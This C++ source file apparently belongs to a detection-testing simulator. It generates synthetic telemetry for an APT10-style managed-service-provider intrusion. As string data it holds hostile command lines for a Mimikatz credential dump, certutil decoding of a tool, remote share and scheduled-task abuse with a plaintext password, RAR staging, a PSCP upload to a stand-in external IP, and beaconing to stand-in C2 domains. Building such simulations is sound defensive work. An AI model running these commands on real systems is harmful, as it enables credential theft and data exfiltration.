// The embedded intrusion, after the public reporting on APT10's "Operation Cloud Hopper" (PwC/BAE Systems 2017,
// US-CERT TA17-117A): a phished MSP administrator, a PlugX-style side-loaded implant in C:\ProgramData\SxS,
// credential theft with a renamed dumper run from C:\Recovery, the MSP admin account used from the MSP jump host
// into two clients (admin shares, a psexec-like service), a client-to-client hop, a scheduled task created and
// deleted within minutes, a renamed RAR staging archives in C:\$Recycle.Bin, the archives moved to the MSP and
// pushed out with a renamed PSCP. Every indicator (domains, addresses, hashes, file names) is SIMULATED.
#include <algorithm>

#include "core/time.h"
#include "simulate/scenario.h"

namespace trawl::simulate {

struct BeaconPlan {
  size_t step = 0;
  int host = -1;
  SimProcess proc;
  std::string domain, ip, uri, user_agent;
  int port = 80;
  int64_t interval_us = 0;
  double jitter = 0;  // fraction of the interval
  int64_t next = 0;
  uint64_t n = 0;
  int dns_every = 6;
  int ev_sysmon3 = -1, ev_sysmon22 = -1, ev_conn = -1, ev_dns = -1, ev_http = -1;
};

namespace {

constexpr int64_t kSec = 1000000;
constexpr int64_t kMin = 60 * kSec;
constexpr int64_t kHour = 60 * kMin;

using Fields = std::vector<std::pair<std::string, std::string>>;

void add_unique(std::vector<std::string>& v, const std::string& s) {
  if (std::find(v.begin(), v.end(), s) == v.end()) v.push_back(s);
}

class Script {
 public:
  Script(SimWorld& w, std::vector<IntrusionStep>& steps) : w_(w), steps_(steps) {}

  size_t step(const char* id, const char* name, const char* tactic, std::vector<std::string> techniques,
              const std::string& tenant, const char* description) {
    IntrusionStep s;
    s.id = id;
    s.name = name;
    s.tactic = tactic;
    s.technique = techniques.front();
    s.techniques = std::move(techniques);
    s.tenant = tenant;
    s.description = description;
    steps_.push_back(std::move(s));
    return steps_.size() - 1;
  }
  void touch(size_t s, int host, const std::string& account = "") {
    IntrusionStep& st = steps_[s];
    const Host& h = w_.hosts[size_t(host)];
    add_unique(st.tenants, w_.tenants[size_t(h.tenant)].name);
    add_unique(st.hosts, h.fqdn);
    add_unique(st.host_ips, h.ip);
    if (!account.empty()) add_unique(st.accounts, account);
  }
  int ev(size_t s, Fields f) {
    const int e = w_.begin_evidence(std::move(f));
    steps_[s].evidence.push_back(e);
    return e;
  }
  void done() {
    w_.current_evidence = -1;
    w_.secondary_evidence = -1;
  }

  void proc(size_t s, int64_t t, const SimProcess& p, const std::string& hashes_of = "") {
    touch(s, p.host, p.user);
    const int sec = w_.begin_evidence({{"NewProcessName", p.image}, {"CommandLine", p.command_line}});
    steps_[s].evidence.push_back(sec);
    ev(s, {{"Image", p.image}, {"OriginalFileName", p.original_file_name}, {"CommandLine", p.command_line}});
    w_.secondary_evidence = sec;
    w_.process_start(t, p, hashes_of);
    done();
  }
  void logon(size_t s, int64_t t, int host, int type, const Account& who, const Host& from) {
    touch(s, host, who.qualified());
    if (who.admin) {
      const int priv = w_.begin_evidence({{"SubjectUserName", who.name}, {"SubjectDomainName", who.domain}});
      steps_[s].evidence.push_back(priv);
      w_.secondary_evidence = priv;
    }
    ev(s, {{"TargetUserName", who.name},
           {"TargetDomainName", who.domain},
           {"LogonType", std::to_string(type)},
           {"IpAddress", from.ip}});
    w_.logon(t, host, type, who, from.ip, from.name, type == 3 ? "NTLM" : "Negotiate");
    done();
  }
  void file(size_t s, int64_t t, const SimProcess& p, const std::string& target) {
    touch(s, p.host);
    ev(s, {{"Image", p.image}, {"TargetFilename", target}});
    w_.file_create(t, p, target);
    done();
  }
  void conn(size_t s, int64_t t, int tenant, const ConnSpec& c, const std::string& uid) {
    ev(s, {{"uid", uid}, {"id.orig_h", c.orig_h}, {"id.resp_h", c.resp_h}, {"id.resp_p", std::to_string(c.resp_p)}});
    w_.zeek_conn(t, tenant, c, uid);
    done();
  }
  // An SMB/RDP/other session between two simulated hosts, seen by each tenant's sensor it crosses.
  void internal(size_t s, int64_t t, int src, int dst, int port, const char* service, uint64_t up, uint64_t down,
                double duration) {
    const Host& a = w_.hosts[size_t(src)];
    const Host& b = w_.hosts[size_t(dst)];
    ConnSpec c;
    c.orig_h = a.ip;
    c.orig_p = w_.ephemeral_port();
    c.resp_h = b.ip;
    c.resp_p = port;
    c.service = service;
    c.duration = duration;
    c.orig_bytes = up;
    c.resp_bytes = down;
    c.local_resp = a.tenant == b.tenant;
    const std::string uid = w_.zeek_uid();
    conn(s, t, a.tenant, c, uid);
    if (b.tenant != a.tenant) {
      c.local_orig = false;
      c.local_resp = true;
      conn(s, t, b.tenant, c, uid);
    }
  }

  SimProcess user_proc(int h, const Account& u, const std::string& image, const std::string& cmd,
                       const SimProcess* parent, const char* integrity = "High") {
    return w_.make_process(h, image, cmd, u.qualified(), u.sid, "0x" + hex_upper(stable_hash(u.name, uint64_t(h) + 99) & 0xFFFFFF, 6),
                           integrity, parent);
  }
  SimProcess system_proc(int h, const std::string& image, const std::string& cmd, const SimProcess* parent) {
    return w_.make_process(h, image, cmd, "NT AUTHORITY\\SYSTEM", "S-1-5-18", "0x3e7", "System", parent);
  }
  static void rename_as(SimProcess& p, const char* original, const char* description, const char* product,
                        const char* company, const char* version) {
    p.original_file_name = original;
    p.description = description;
    p.product = product;
    p.company = company;
    p.file_version = version;
  }

  SimWorld& w_;
  std::vector<IntrusionStep>& steps_;
};

int host_named(const SimWorld& w, int tenant, const char* name) {
  for (int h : w.tenants[size_t(tenant)].hosts)
    if (w.hosts[size_t(h)].name == name) return h;
  return -1;
}

}  // namespace

Intrusion::Intrusion(SimWorld& w, int64_t day1) : w_(w), day1_(day1) {}
Intrusion::~Intrusion() = default;

void Intrusion::plan() {
  Script s(w_, steps);
  SimRandom& r = w_.rng();
  const int msp = w_.msp;
  const int c1 = 1, c2 = 2;
  const int adm = host_named(w_, msp, "ADM01"), jump = host_named(w_, msp, "JUMP01");
  const int c1fs = w_.tenants[c1].fileserver, c1dc = w_.tenants[c1].dc;
  const int c2fs = w_.tenants[c2].fileserver, c2dc = w_.tenants[c2].dc;
  const Account jdoe = w_.tenants[size_t(msp)].users[0];
  const Host& H_adm = w_.hosts[size_t(adm)];
  const Host& H_jump = w_.hosts[size_t(jump)];
  const Host& H_c1fs = w_.hosts[size_t(c1fs)];
  const Host& H_c2fs = w_.hosts[size_t(c2fs)];
  const Host& H_c2dc = w_.hosts[size_t(c2dc)];
  const std::string c2_domain = "mssql-update.ddns.net", c2_ip = "203.0.113.45";
  const std::string q_domain = "cloud-sync.dynu.com", q_ip = "198.51.100.77";
  const std::string exfil_ip = "198.51.100.23";
  indicators.domains = {c2_domain, q_domain};
  indicators.ips = {c2_ip, q_ip, exfil_ip};
  const std::string password = "Spring2019!";
  auto T = [&](int day, int h, int m, int sec) {
    return day1_ + int64_t(day) * 24 * kHour + h * kHour + m * kMin + sec * kSec + r.range(0, 999999);
  };

  // ---- S01: spear-phishing attachment opened on the MSP admin's workstation.
  size_t st = s.step("S01", "spearphishing_attachment", "initial-access", {"T1566.001", "T1204.002"}, "msp",
                     "MSP admin opens a booby-trapped Word document from e-mail; the macro drops a signed McAfee "
                     "executable, a malicious DLL beside it and an encrypted payload into C:\\ProgramData\\SxS.");
  SimProcess explorer = s.user_proc(adm, jdoe, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", nullptr, "Medium");
  SimProcess outlook = s.user_proc(adm, jdoe, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                                   "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ", &explorer, "Medium");
  const std::string doc = "C:\\Users\\admin.jdoe\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2QF8ZPL\\Q1_Contract_Review.doc";
  s.file(st, T(0, 9, 41, 10), outlook, doc);
  SimProcess word = s.user_proc(adm, jdoe, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"" + doc + "\" /o \"\"",
                                &outlook, "Medium");
  s.proc(st, T(0, 9, 41, 40), word);
  for (const char* f : {"Mc.exe", "McUtil.dll", "McUtil.dll.ping"})
    s.file(st, T(0, 9, 42, 5), word, std::string("C:\\ProgramData\\SxS\\") + f);
  indicators.file_names = {"C:\\ProgramData\\SxS\\McUtil.dll", "C:\\ProgramData\\SxS\\McUtil.dll.ping", "Q1_Contract_Review.doc"};

  // ---- S02: the side-loaded implant starts.
  st = s.step("S02", "dll_side_loading", "defense-evasion", {"T1574.002", "T1036.005"}, "msp",
              "A genuine, signed McAfee Mc.exe copied to C:\\ProgramData\\SxS runs and loads the unsigned "
              "McUtil.dll from its own folder (PlugX-style side-loading).");
  SimProcess mc = s.user_proc(adm, jdoe, "C:\\ProgramData\\SxS\\Mc.exe", "\"C:\\ProgramData\\SxS\\Mc.exe\" ", &word, "Medium");
  s.proc(st, T(0, 9, 42, 31), mc);
  s.touch(st, adm);
  s.ev(st, {{"Image", mc.image}, {"ImageLoaded", "C:\\ProgramData\\SxS\\McUtil.dll"}, {"Signed", "false"}});
  w_.image_load(T(0, 9, 42, 32), mc, "C:\\ProgramData\\SxS\\McUtil.dll", false, "-");
  s.done();
  indicators.sha256.push_back(sim_hashes("McUtil.dll").substr(sim_hashes("McUtil.dll").find("SHA256=") + 7, 64));

  // ---- S03: PlugX-style HTTP beaconing to a dynamic-DNS domain (queued by beacons_until()).
  st = s.step("S03", "c2_beacon_dynamic_dns", "command-and-control", {"T1071.001", "T1568", "T1573"}, "msp",
              "The implant beacons over HTTP POST every ~5 minutes (+-20% jitter) to a dynamic-DNS domain, "
              "from the first run to the end of the data.");
  s.touch(st, adm, jdoe.qualified());
  {
    BeaconPlan b;
    b.step = st;
    b.host = adm;
    b.proc = mc;
    b.domain = c2_domain;
    b.ip = c2_ip;
    b.port = 80;
    b.uri = "/update?id=";
    b.user_agent = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)";
    b.interval_us = 300 * kSec;
    b.jitter = 0.2;
    b.next = T(0, 9, 43, 0);
    b.dns_every = 6;
    beacons_.push_back(std::move(b));
  }

  // ---- S04: discovery from the implant.
  st = s.step("S04", "discovery", "discovery", {"T1087.002", "T1016", "T1057", "T1482"}, "msp",
              "Account, network and domain-trust discovery through cmd.exe children of the implant.");
  SimProcess cmd = s.user_proc(adm, jdoe, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe", &mc, "Medium");
  s.proc(st, T(0, 21, 14, 0), cmd);
  int k = 0;
  for (const auto& [img, line] : std::vector<std::pair<std::string, std::string>>{
           {"C:\\Windows\\System32\\whoami.exe", "whoami /all"},
           {"C:\\Windows\\System32\\net.exe", "net group \"domain admins\" /domain"},
           {"C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts"},
           {"C:\\Windows\\System32\\tasklist.exe", "tasklist /v"},
           {"C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"}})
    s.proc(st, T(0, 21, 14, 20 + 25 * k++), s.user_proc(adm, jdoe, img, line, &cmd, "Medium"));

  // ---- S05: a credential dumper delivered as base64 text and decoded with certutil.
  st = s.step("S05", "certutil_decode_tool", "defense-evasion", {"T1140", "T1105"}, "msp",
              "The implant writes base64 text to C:\\Recovery and certutil -decode turns it into an executable.");
  s.file(st, T(0, 21, 40, 0), mc, "C:\\Recovery\\k.txt");
  SimProcess certutil = s.user_proc(adm, jdoe, "C:\\Windows\\System32\\certutil.exe",
                                    "certutil  -decode C:\\Recovery\\k.txt C:\\Recovery\\kb.exe", &cmd, "High");
  s.proc(st, T(0, 21, 40, 30), certutil);
  s.file(st, T(0, 21, 40, 31), certutil, "C:\\Recovery\\kb.exe");
  indicators.file_names.push_back("C:\\Recovery\\kb.exe");

  // ---- S06: credential dumping from lsass with the renamed tool, run from C:\Recovery.
  st = s.step("S06", "lsass_credential_dumping", "credential-access", {"T1003.001", "T1036.003"}, "msp",
              "A renamed Mimikatz (kb.exe, OriginalFileName mimikatz.exe) run from C:\\Recovery opens lsass.exe "
              "and writes the harvested credentials, among them the MSP admin's, to a text file.");
  SimProcess kb = s.user_proc(adm, jdoe, "C:\\Recovery\\kb.exe",
                              "kb.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", &cmd, "High");
  Script::rename_as(kb, "mimikatz.exe", "mimikatz for Windows", "mimikatz", "gentilkiwi (Benjamin DELPY)", "2.1.1.0");
  s.proc(st, T(0, 21, 44, 2), kb, "mimikatz.exe");
  indicators.sha256.push_back(sim_hashes("mimikatz.exe").substr(sim_hashes("mimikatz.exe").find("SHA256=") + 7, 64));
  SimProcess lsass = s.system_proc(adm, "C:\\Windows\\system32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", nullptr);
  lsass.pid = H_adm.lsass_pid;
  s.ev(st, {{"SourceImage", kb.image}, {"TargetImage", lsass.image}, {"GrantedAccess", "0x1010"}});
  w_.process_access(T(0, 21, 44, 3), kb, lsass, "0x1010");
  s.done();
  s.file(st, T(0, 21, 44, 5), kb, "C:\\Recovery\\o.txt");

  // ---- S07: RDP from the admin workstation to the MSP jump host with the stolen admin account.
  st = s.step("S07", "rdp_to_msp_jump_host", "lateral-movement", {"T1021.001", "T1078.002"}, "msp",
              "Late at night the attacker RDPs from ADM01 to the MSP jump host JUMP01 as MSP\\admin.jdoe.");
  SimProcess mstsc = s.user_proc(adm, jdoe, "C:\\Windows\\System32\\mstsc.exe", "mstsc.exe /v:" + H_jump.fqdn, &cmd, "Medium");
  s.proc(st, T(0, 22, 5, 0), mstsc);
  s.internal(st, T(0, 22, 5, 2), adm, jump, 3389, "ssl", 2400000, 18000000, 5400);
  s.logon(st, T(0, 22, 5, 6), jump, 10, jdoe, H_adm);

  // From the jump host: one interactive shell for everything that follows there.
  SimProcess jshell = s.user_proc(jump, jdoe, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", nullptr, "High");
  SimProcess jcmd = s.user_proc(jump, jdoe, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", &jshell, "High");

  // ---- S08 / S09: the MSP admin account into two clients over admin shares + a psexec-like service.
  auto into_client = [&](const char* id, int client, int target, int64_t t0) {
    const Host& tgt = w_.hosts[size_t(target)];
    const std::string client_name = w_.tenants[size_t(client)].name;
    size_t sx = s.step(id, "msp_account_lateral_movement", "lateral-movement",
                       {"T1021.002", "T1078.002", "T1569.002", "T1543.003"}, client_name,
                       "From the MSP jump host the attacker maps the client's admin share with the MSP admin's "
                       "credentials (net use ... /user:), copies a service binary and starts it as a service.");
    SimProcess net = s.user_proc(jump, jdoe, "C:\\Windows\\System32\\net.exe",
                                 "net  use \\\\" + tgt.fqdn + "\\c$ /user:" + jdoe.qualified() + " " + password, &jcmd);
    s.proc(sx, t0, net);
    s.touch(sx, jump);
    s.ev(sx, {{"TargetUserName", jdoe.name}, {"TargetServerName", tgt.fqdn}});
    w_.explicit_credentials(t0 + 300000, jump, net, jdoe, jdoe, tgt.fqdn, tgt.ip);
    s.done();
    s.logon(sx, t0 + 900000, target, 3, jdoe, H_jump);
    s.internal(sx, t0 + 800000, jump, target, 445, "smb,dce_rpc", 420000, 60000, 95);
    SimProcess copy = s.user_proc(jump, jdoe, "C:\\Windows\\System32\\cmd.exe",
                                  "cmd.exe /c copy /y C:\\Windows\\Vss\\rsvc.exe \\\\" + tgt.fqdn + "\\c$\\Windows\\rsvc.exe", &jcmd);
    s.proc(sx, t0 + 20 * kSec, copy);
    SimProcess system = s.system_proc(target, "System", "", nullptr);
    system.pid = 4;
    s.file(sx, t0 + 21 * kSec, system, "C:\\Windows\\rsvc.exe");
    s.touch(sx, target, jdoe.qualified());
    s.ev(sx, {{"ServiceName", "WinSvcUpd"}, {"ImagePath", "%SystemRoot%\\rsvc.exe"}});
    w_.service_installed(t0 + 40 * kSec, target, "WinSvcUpd", "%SystemRoot%\\rsvc.exe", "LocalSystem", jdoe.sid);
    s.done();
    SimProcess svc = s.system_proc(target, "C:\\Windows\\rsvc.exe", "C:\\Windows\\rsvc.exe", nullptr);
    s.proc(sx, t0 + 41 * kSec, svc);
    SimProcess who = s.system_proc(target, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c \"whoami & hostname & net localgroup administrators\"", &svc);
    s.proc(sx, t0 + 50 * kSec, who);
    return svc;
  };
  SimProcess c1svc = into_client("S08", c1, c1fs, T(1, 0, 12, 0));
  {
    // RDP to the client's DC as well.
    const size_t s8 = steps.size() - 1;
    s.logon(s8, T(1, 0, 31, 0), c1dc, 10, jdoe, H_jump);
    s.internal(s8, T(1, 0, 30, 55), jump, c1dc, 3389, "ssl", 900000, 7000000, 1300);
  }
  into_client("S09", c2, c2dc, T(1, 0, 40, 0));

  // ---- S10: a second implant on the client file server, run from C:\Windows\Vss, beaconing over TLS.
  st = s.step("S10", "client_implant_dynamic_dns", "command-and-control", {"T1071.001", "T1568", "T1036.005"},
              w_.tenants[c1].name,
              "A QuasarRAT-style implant dropped as C:\\Windows\\Vss\\vsmon.exe on the client file server beacons "
              "every ~10 minutes (+-25%) to a dynamic-DNS domain over 443.");
  s.file(st, T(1, 0, 58, 0), c1svc, "C:\\Windows\\Vss\\vsmon.exe");
  SimProcess vsmon = s.system_proc(c1fs, "C:\\Windows\\Vss\\vsmon.exe", "C:\\Windows\\Vss\\vsmon.exe", &c1svc);
  Script::rename_as(vsmon, "Client.exe", "-", "-", "-", "1.3.0.0");
  s.proc(st, T(1, 0, 58, 30), vsmon, "quasar-client.exe");
  indicators.file_names.push_back("C:\\Windows\\Vss\\vsmon.exe");
  {
    BeaconPlan b;
    b.step = st;
    b.host = c1fs;
    b.proc = vsmon;
    b.domain = q_domain;
    b.ip = q_ip;
    b.port = 443;
    b.interval_us = 600 * kSec;
    b.jitter = 0.25;
    b.next = T(1, 0, 59, 0);
    b.dns_every = 3;
    beacons_.push_back(std::move(b));
  }

  // ---- S11: client-to-client hop with the same MSP account.
  st = s.step("S11", "client_to_client_hop", "lateral-movement", {"T1021.002", "T1078.002"}, w_.tenants[c2].name,
              "From the first client's file server the attacker maps the second client's file server admin share "
              "with the MSP admin's credentials: a logon that crosses from one client into another.");
  SimProcess fcmd = s.system_proc(c1fs, "C:\\Windows\\System32\\cmd.exe", "cmd.exe", &vsmon);
  SimProcess hop = s.system_proc(c1fs, "C:\\Windows\\System32\\net.exe",
                                 "net  use \\\\" + H_c2fs.fqdn + "\\c$ /user:" + jdoe.qualified() + " " + password, &fcmd);
  s.proc(st, T(1, 1, 30, 0), hop);
  s.ev(st, {{"TargetUserName", jdoe.name}, {"TargetServerName", H_c2fs.fqdn}});
  w_.explicit_credentials(T(1, 1, 30, 1), c1fs, hop, Account{w_.tenants[c1].domain, H_c1fs.name + "$", "S-1-5-18", false},
                          jdoe, H_c2fs.fqdn, H_c2fs.ip);
  s.done();
  s.logon(st, T(1, 1, 30, 2), c2fs, 3, jdoe, H_c1fs);
  s.internal(st, T(1, 1, 30, 1), c1fs, c2fs, 445, "smb", 380000, 45000, 300);

  // ---- S12: a scheduled task registered remotely, run once and deleted within minutes.
  st = s.step("S12", "scheduled_task_create_delete", "execution", {"T1053.005", "T1070"}, w_.tenants[c2].name,
              "schtasks /create /s on the second client's file server runs the implant once as SYSTEM; the task is "
              "deleted about six minutes later.");
  const std::string task = "\\Microsoft\\Windows\\WindowsUpdate\\sih_check";
  SimProcess sch = s.system_proc(c1fs, "C:\\Windows\\System32\\schtasks.exe",
                                 "schtasks  /create /s " + H_c2fs.fqdn + " /u " + jdoe.qualified() + " /p " + password +
                                     " /tn \"" + task + "\" /tr \"C:\\Windows\\Vss\\vsmon.exe\" /sc once /st 01:50 /ru SYSTEM /f",
                                 &fcmd);
  s.proc(st, T(1, 1, 45, 0), sch);
  s.touch(st, c2fs, jdoe.qualified());
  s.ev(st, {{"TaskName", task}, {"SubjectUserName", jdoe.name}});
  w_.task_created(T(1, 1, 45, 2), c2fs, jdoe, task, "C:\\Windows\\Vss\\vsmon.exe");
  s.done();
  SimProcess sched = s.system_proc(c2fs, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", nullptr);
  SimProcess vs2 = s.system_proc(c2fs, "C:\\Windows\\Vss\\vsmon.exe", "C:\\Windows\\Vss\\vsmon.exe", &sched);
  Script::rename_as(vs2, "Client.exe", "-", "-", "-", "1.3.0.0");
  s.proc(st, T(1, 1, 50, 0), vs2, "quasar-client.exe");
  SimProcess schd = s.system_proc(c1fs, "C:\\Windows\\System32\\schtasks.exe",
                                  "schtasks  /delete /s " + H_c2fs.fqdn + " /u " + jdoe.qualified() + " /p " + password +
                                      " /tn \"" + task + "\" /f",
                                  &fcmd);
  s.proc(st, T(1, 1, 51, 20), schd);
  s.ev(st, {{"TaskName", task}});
  w_.task_deleted(T(1, 1, 51, 22), c2fs, jdoe, task);
  s.done();

  // ---- S13: staging with a renamed RAR in the recycle bin.
  st = s.step("S13", "staging_renamed_rar_recycle_bin", "collection", {"T1560.001", "T1074.001", "T1036.003"},
              w_.tenants[c1].name,
              "A RAR command-line tool saved as C:\\$Recycle.Bin\\r.exe packs project files into a password-"
              "protected multi-volume archive in C:\\$Recycle.Bin.");
  s.file(st, T(1, 2, 10, 0), vsmon, "C:\\$Recycle.Bin\\r.exe");
  SimProcess rar = s.system_proc(c1fs, "C:\\$Recycle.Bin\\r.exe",
                                 "r.exe a -r -m5 -v400m -hpS1mP4ss! C:\\$Recycle.Bin\\d1.rar D:\\Projects\\*.docx D:\\Projects\\*.dwg D:\\Projects\\*.xlsx",
                                 &fcmd);
  Script::rename_as(rar, "Rar.exe", "Command line RAR", "WinRAR", "Alexander Roshal", "5.61.0");
  s.proc(st, T(1, 2, 10, 30), rar, "rar.exe");
  const int volumes = 5;
  for (int v = 1; v <= volumes; ++v)
    s.file(st, T(1, 2, 10 + 3 * v, 0), rar, "C:\\$Recycle.Bin\\d1.part" + std::to_string(v) + ".rar");
  indicators.file_names.push_back("C:\\$Recycle.Bin\\r.exe");

  // ---- S14: the archives move to the MSP jump host over SMB.
  st = s.step("S14", "exfil_to_msp_staging", "exfiltration", {"T1074.002", "T1570", "T1021.002"}, "msp",
              "The archive volumes are copied from the client file server to C:\\Windows\\Vss on the MSP jump "
              "host: about 1.9 GB from a client to the MSP outside any backup job.");
  SimProcess cp = s.system_proc(c1fs, "C:\\Windows\\System32\\cmd.exe",
                                "cmd.exe /c copy /y C:\\$Recycle.Bin\\d1.part*.rar \\\\" + H_jump.fqdn + "\\c$\\Windows\\Vss\\", &fcmd);
  s.proc(st, T(1, 2, 40, 0), cp);
  s.logon(st, T(1, 2, 40, 1), jump, 3, jdoe, H_c1fs);
  s.internal(st, T(1, 2, 40, 1), c1fs, jump, 445, "smb", 1980000000ULL, 2100000, 1460);
  SimProcess jsys = s.system_proc(jump, "System", "", nullptr);
  jsys.pid = 4;
  for (int v = 1; v <= volumes; ++v)
    s.file(st, T(1, 2, 40 + 5 * v, 0), jsys, "C:\\Windows\\Vss\\d1.part" + std::to_string(v) + ".rar");

  // ---- S15: out of the MSP with a renamed PSCP.
  st = s.step("S15", "exfil_renamed_pscp", "exfiltration", {"T1048.002", "T1036.003"}, "msp",
              "On the jump host a renamed PSCP (C:\\Windows\\Vss\\vs.exe) uploads the volumes to an external "
              "server over port 443.");
  SimProcess pscp = s.user_proc(jump, jdoe, "C:\\Windows\\Vss\\vs.exe",
                                "vs.exe -batch -P 443 -pw ******** C:\\Windows\\Vss\\d1.part*.rar up@" + exfil_ip + ":/u/", &jcmd);
  Script::rename_as(pscp, "PSCP", "Command-line SCP/SFTP client", "PuTTY suite", "Simon Tatham", "Release 0.70");
  s.proc(st, T(1, 3, 5, 0), pscp, "pscp.exe");
  const int sport = w_.ephemeral_port();
  s.ev(st, {{"Image", pscp.image}, {"DestinationIp", exfil_ip}, {"DestinationPort", "443"}});
  w_.network_connection(T(1, 3, 5, 1), pscp, H_jump.ip, sport, exfil_ip, "-", 443);
  s.done();
  {
    ConnSpec c;
    c.orig_h = H_jump.ip;
    c.orig_p = sport;
    c.resp_h = exfil_ip;
    c.resp_p = 443;
    c.service = "ssh";
    c.duration = 2460;
    c.orig_bytes = 1990000000ULL;
    c.resp_bytes = 3400000;
    s.conn(st, T(1, 3, 5, 1), msp, c, w_.zeek_uid());
  }
  indicators.file_names.push_back("C:\\Windows\\Vss\\vs.exe");

  // ---- S16: clean-up.
  st = s.step("S16", "cleanup_file_deletion", "defense-evasion", {"T1070.004"}, w_.tenants[c1].name,
              "The archives and the RAR tool are deleted on the client file server and on the jump host.");
  s.proc(st, T(1, 3, 50, 0), s.system_proc(c1fs, "C:\\Windows\\System32\\cmd.exe",
                                           "cmd.exe /c del /f /q C:\\$Recycle.Bin\\d1.part*.rar C:\\$Recycle.Bin\\r.exe", &fcmd));
  s.proc(st, T(1, 3, 51, 0), s.user_proc(jump, jdoe, "C:\\Windows\\System32\\cmd.exe",
                                         "cmd.exe /c del /f /q C:\\Windows\\Vss\\d1.part*.rar", &jcmd));
  last_step_time_ = T(1, 3, 52, 0);
  (void)H_c2dc;
}

void Intrusion::beacons_until(int64_t until_us) {
  Script s(w_, steps);
  SimRandom& r = w_.rng();
  for (BeaconPlan& b : beacons_) {
    const Host& h = w_.hosts[size_t(b.host)];
    const Tenant& tn = w_.tenants[size_t(h.tenant)];
    const Host& dc = w_.hosts[size_t(tn.dc)];
    if (b.ev_conn < 0) {
      b.ev_sysmon22 = w_.begin_evidence({{"Image", b.proc.image}, {"QueryName", b.domain}});
      b.ev_dns = w_.begin_evidence({{"query", b.domain}, {"id.orig_h", h.ip}});
      b.ev_sysmon3 = w_.begin_evidence({{"Image", b.proc.image}, {"DestinationIp", b.ip}});
      b.ev_conn = w_.begin_evidence({{"id.orig_h", h.ip}, {"id.resp_h", b.ip}, {"id.resp_p", std::to_string(b.port)}});
      for (int e : {b.ev_sysmon22, b.ev_dns, b.ev_sysmon3, b.ev_conn}) steps[b.step].evidence.push_back(e);
      if (b.port == 80) {
        b.ev_http = w_.begin_evidence({{"host", b.domain}, {"method", "POST"}});
        steps[b.step].evidence.push_back(b.ev_http);
      }
      s.done();
    }
    while (b.next < until_us) {
      const int64_t t = b.next;
      if (b.n % uint64_t(b.dns_every) == 0) {
        w_.current_evidence = b.ev_sysmon22;
        w_.dns_query(t, b.proc, b.domain, b.ip);
        w_.current_evidence = b.ev_dns;
        w_.zeek_dns(t, h.tenant, h.ip, w_.ephemeral_port(), dc.ip, b.domain, b.ip, 60.0, w_.zeek_uid());
      }
      const int sport = w_.ephemeral_port();
      w_.current_evidence = b.ev_sysmon3;
      w_.network_connection(t + 30000, b.proc, h.ip, sport, b.ip, "-", b.port);
      ConnSpec c;
      c.orig_h = h.ip;
      c.orig_p = sport;
      c.resp_h = b.ip;
      c.resp_p = b.port;
      c.service = b.port == 80 ? "http" : "ssl";
      c.duration = 0.2 + r.unit() * 0.6;
      c.orig_bytes = uint64_t(r.range(380, 900));
      c.resp_bytes = uint64_t(r.range(180, 620));
      const std::string uid = w_.zeek_uid();
      w_.current_evidence = b.ev_conn;
      w_.zeek_conn(t + 30000, h.tenant, c, uid);
      if (b.ev_http >= 0) {
        w_.current_evidence = b.ev_http;
        w_.zeek_http(t + 60000, h.tenant, h.ip, sport, b.ip, 80, "POST", b.domain,
                     b.uri + hex_upper(stable_hash(h.fqdn), 8), b.user_agent, c.orig_bytes - 250,
                     c.resp_bytes > 200 ? c.resp_bytes - 180 : 0, 200, uid);
      }
      s.done();
      ++b.n;
      const double j = (r.unit() * 2 - 1) * b.jitter;
      b.next = t + int64_t(double(b.interval_us) * (1.0 + j));
    }
  }
}

}  // namespace trawl::simulate
